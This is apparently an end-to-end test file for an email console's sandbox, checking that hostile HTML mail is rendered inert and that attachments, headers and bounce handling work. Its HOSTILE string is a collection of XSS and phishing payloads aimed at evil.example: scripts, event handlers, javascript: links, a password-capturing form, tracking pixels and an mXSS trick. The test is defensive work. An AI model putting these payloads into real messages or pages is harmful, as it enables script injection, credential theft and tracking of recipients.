import { expect, test } from 'vitest'
import { testBrowser } from '../support/browser.ts'
import { look, open, send, testConsole } from './support.ts'

const browser = await testBrowser()
const waybill = await testConsole({ withRelay: false })

/** Everything a hostile mail tries: scripts in every form, requests of every kind, a form, a frame, an escape from its own frame. */
const HOSTILE = `
<html><head><title>x</title><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/c.png) }</style></head>
<body onload="alert('onload')">
<h1>Dear customer</h1>
<script>alert('script'); fetch('https://evil.example/fetch'); parent.document.body.textContent = 'taken over'</script>
<img src="x" onerror="alert('onerror')"><img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<svg><script>alert('svg')</script><image href="https://evil.example/d.png" onload="alert('svg image')"/></svg>
<iframe src="javascript:alert('frame')"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><video src="https://evil.example/video" autoplay></video>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="alert('focus')"><button>Sign in</button></form>
<a href="javascript:alert('link')">first</a> <a href="https://shop.example/offer">second</a>
<div style="background-image: url('https://evil.example/e.png'); position: fixed; inset: 0">over everything</div>
<a href="vbscript:x">third</a><math><mtext><style><img src=x onerror="alert('mxss')"></style></mtext></math>
</body></html>`

test('hostile mail does nothing: no dialog, no request, no script, no form, and the console stays what it was', async () => {
  const { page, elsewhere } = await look(browser, waybill, { expects: /Content Security Policy|sandboxed/ })
  await send(waybill, { to: 'ina@example.org', subject: 'A gift for you', html: HOSTILE, text: 'plain' })
  await open(page, '/sandbox')
  await page.getByText('A gift for you').click()
  const frame = page.frameLocator('iframe')
  await frame.getByRole('heading', { name: 'Dear customer' }).waitFor()
  await page.getByText('1 image from elsewhere not loaded').waitFor()
  expect(await frame.locator('script, form, iframe, object, embed, video, [onload], [onerror]').count()).toBe(0)
  expect(await frame.getByText('first').getAttribute('href')).toBeNull()

  // Whatever was to come of it would have come while the rest of the page is used.
  for (const view of ['Text', 'Headers', 'Source', 'HTML']) await page.getByText(view, { exact: true }).click()
  await frame.getByRole('heading', { name: 'Dear customer' }).waitFor()
  expect(elsewhere).toEqual([])
  expect(await page.getByRole('heading', { name: 'A gift for you' }).isVisible()).toBe(true)
})

test('images from elsewhere load only when they are asked for, and scripts not even then', async () => {
  const { page, context, elsewhere } = await look(browser, waybill, { expects: /Content Security Policy/ })
  await context.route('https://pictures.example/**', (route) =>
    route.fulfill({ status: 200, contentType: 'image/gif', body: '' }),
  )
  await send(waybill, {
    to: 'jule@example.org',
    subject: 'With a picture',
    html: '<p>Look</p><img src="https://pictures.example/lantern.png" alt="A lantern"><script src="https://evil.example/x.js"></script>',
  })
  await open(page, '/sandbox')
  await page.getByText('With a picture').click()
  await page.frameLocator('iframe').getByText('Look').waitFor()
  expect(elsewhere).toEqual([])

  const asked = page.waitForRequest('https://pictures.example/lantern.png')
  await page.getByRole('button', { name: 'Load images' }).click()
  await asked
  await expect.poll(() => elsewhere).toEqual(['https://pictures.example/lantern.png'])
})

test('text, headers, source and attachments are all there, the attachment under its own name', async () => {
  const { page } = await look(browser, waybill)
  const content = Buffer.from('%PDF-1.7 not really').toString('base64')
  await send(waybill, {
    to: 'kira@example.org',
    subject: 'Your invoice',
    text: 'The invoice is attached.',
    headers: { 'X-Order': '4711' },
    attachments: [{ filename: 'invoice 2026.pdf', content_type: 'application/pdf', content }],
  })
  await open(page, '/sandbox')
  await page.getByText('Your invoice').click()
  await page.getByRole('region', { name: 'Text' }).filter({ hasText: 'The invoice is attached.' }).waitFor()
  await page.getByText('Headers', { exact: true }).click()
  await page.getByText('4711').waitFor()
  const download = page.waitForEvent('download')
  await page.getByRole('link', { name: 'Download invoice 2026.pdf' }).click()
  expect((await download).suggestedFilename()).toBe('invoice 2026.pdf')
})

test('an empty sandbox teaches which addresses behave; clearing it asks once', async () => {
  const { page } = await look(browser, waybill)
  await send(waybill, { to: 'lars@example.org' })
  await open(page, '/sandbox')
  await page.getByRole('button', { name: 'Forget all kept mail' }).click()
  await page.getByRole('button', { name: 'Forget them' }).click()
  await page.getByRole('heading', { name: 'Nothing kept yet' }).waitFor()
  await page.getByText('bounce@example.com').waitFor()
})

test('an address that behaves ends as it says, and its waybill shows it while one looks on', async () => {
  const { page } = await look(browser, waybill)
  const { id } = await send(waybill, { to: 'bounce@example.com' })
  await open(page, `/messages/${id}`)
  await page.getByText('Bounced', { exact: true }).first().waitFor()
  await open(page, '/suppressions')
  await page.getByRole('grid').getByText('bounce@example.com').first().waitFor()
  await page.getByText('The address does not exist').first().waitFor()
})
